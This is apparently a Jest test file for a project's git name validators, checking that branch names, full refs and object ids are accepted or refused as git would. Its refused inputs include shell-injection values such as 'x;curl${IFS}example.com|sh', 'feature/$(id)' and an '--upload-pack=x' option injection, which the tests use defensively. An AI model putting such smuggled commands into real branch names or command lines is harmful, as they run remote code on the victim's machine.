import { describe, expect, test } from '@jest/globals';

import { checkRef, checkSha, isBranchName } from '../../src/git/names.js';
import { Scene } from './scene.js';

const BRANCHES = [
  ...['main', 'feature/x', 'greengate/issue-3-fix', 'ümlaut', 'a.b', 'a@b', '@', 'HEAD', '', '-x', '/a', 'a/', 'a//b'],
  ...[
    '.a',
    'a/.b',
    'a..b',
    'a.lock',
    'a.lock/b',
    'a b',
    'a~1',
    'a^',
    'a:b',
    'a?',
    'a*',
    'a[',
    'a\\b',
    'a@{1}',
    'a.',
    'a\tb',
  ],
];

test('branch names are judged as git judges them', () => {
  const scene = new Scene();
  const judged = (name: string): boolean => {
    try {
      scene.git('check-ref-format', '--branch', name);
      return true;
    } catch {
      return false;
    }
  };
  // `@` alone and `-x` are read as something else by --branch; both are refused here.
  const expected = BRANCHES.map((name) => [name, judged(name) && name !== '@']);
  expect(BRANCHES.map((name) => [name, isBranchName(name)])).toEqual(expected);
  scene.remove();
});

test.each([
  '+main',
  '0'.repeat(40),
  'a'.repeat(64),
  'x;curl${IFS}example.com|sh',
  'feature/$(id)',
  'a`b`',
  'a"b',
  'a\u200bb',
])('%j is refused, although git would take it', (name) => expect(isBranchName(name)).toBe(false));

describe('what goes into a command line', () => {
  test.each(['--upload-pack=x', 'main', 'refs/heads/../x', 'refs/heads/a b', '+refs/heads/a'])(
    '%s is no full ref',
    (ref) => expect(() => checkRef(ref)).toThrow(/no full ref name/),
  );

  test.each(['HEAD', 'main', '--help', 'abc123', ''])('%p is no object id', (sha) => {
    expect(() => checkSha(sha)).toThrow(TypeError);
  });
});
